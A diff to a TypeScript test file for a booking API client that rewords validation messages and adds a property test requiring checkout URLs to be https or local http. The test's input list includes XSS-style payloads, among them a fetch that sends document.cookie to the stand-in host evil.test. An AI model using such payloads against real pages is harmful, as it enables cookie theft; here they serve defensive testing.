@@ -1,4 +1,5 @@
 import { inspect } from 'node:util';
+import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { startStallingServer } from '../test/stallingServer.js';
 import { createPartnerClient } from './createPartnerClient.js';
@@ -255,27 +256,27 @@ describe('bad input is refused before anything is sent', () => {
     [
       'a zero page',
       () => client.enquiries.list({ page: 0 }),
-      { page: ['page must be a whole number from 1 to 10000'] },
+      { page: ['page must be a whole number, 1 to 10000'] },
     ],
     [
       'a negative page size',
       () => client.enquiries.list({ perPage: -5 }),
-      { perPage: ['perPage must be a whole number from 1 to 100'] },
+      { perPage: ['perPage must be a whole number, 1 to 100'] },
     ],
     [
       'a fractional page',
       () => client.enquiries.list({ page: 1.5 }),
-      { page: ['page must be a whole number from 1 to 10000'] },
+      { page: ['page must be a whole number, 1 to 10000'] },
     ],
     [
       'a page past 10 000',
       () => client.enquiries.list({ page: 10_001 }),
-      { page: ['page must be a whole number from 1 to 10000'] },
+      { page: ['page must be a whole number, 1 to 10000'] },
     ],
     [
       'a page of more than 100',
       () => client.enquiries.list({ perPage: 5_000_000 }),
-      { perPage: ['perPage must be a whole number from 1 to 100'] },
+      { perPage: ['perPage must be a whole number, 1 to 100'] },
     ],
     [
       'an unknown status filter',
@@ -656,5 +657,52 @@ describe('reading pages as the public API serves them', () => {
 
     expect(page.meta).toEqual({ ...meta, total: 3, count: 3, links: [] });
     expect(page.meta.path).toBeUndefined();
+  });
+});
+
+describe('where a student may be sent', () => {
+  /** Addresses an upstream might name: web ones, loopback ones, and the ones that run code. */
+  const address = fc.oneof(
+    fc.webUrl({ validSchemes: ['https', 'http'] }),
+    fc.constantFrom('localhost', '127.0.0.1', '[::1]').map((host) => `http://${host}:4010/pay`),
+    fc.constantFrom(
+      'javascript:alert(document.cookie)',
+      'JavaScript:fetch("//evil.test?"+document.cookie)',
+      'data:text/html,<script>alert(1)</script>',
+      'vbscript:msgbox(1)',
+      '//evil.test/pay',
+      'ftp://files.test/pay',
+    ),
+    fc.string(),
+  );
+
+  it('starts a checkout only with a checkout_url that is https, or http on this machine (generated)', async () => {
+    await fc.assert(
+      fc.asyncProperty(address, async (checkoutUrl) => {
+        const api = fakeApi(() =>
+          envelope(
+            {
+              card_provider: { public_key: 'pk', client_secret: 'pi_1_secret_2' },
+              session_token: 'cs_1',
+              checkout_url: checkoutUrl,
+            },
+            201,
+          ),
+        );
+        const started = await createPartnerClient({ baseUrl: 'https://api.test', fetch: api.fetch })
+          .checkout.start({ roomId: 'room_1', booking_period_id: 'bp_1', operator_id: 'op_1' })
+          .catch((error: Error) => error);
+        if (started instanceof Error) {
+          expect(started).toMatchObject({ kind: 'invalid_response' });
+          return;
+        }
+        const { protocol, hostname } = new URL(started.checkout_url ?? '');
+        expect(
+          protocol === 'https:' ||
+            (protocol === 'http:' && ['localhost', '127.0.0.1', '[::1]'].includes(hostname)),
+        ).toBe(true);
+      }),
+      { numRuns: 500 },
+    );
   });
 });
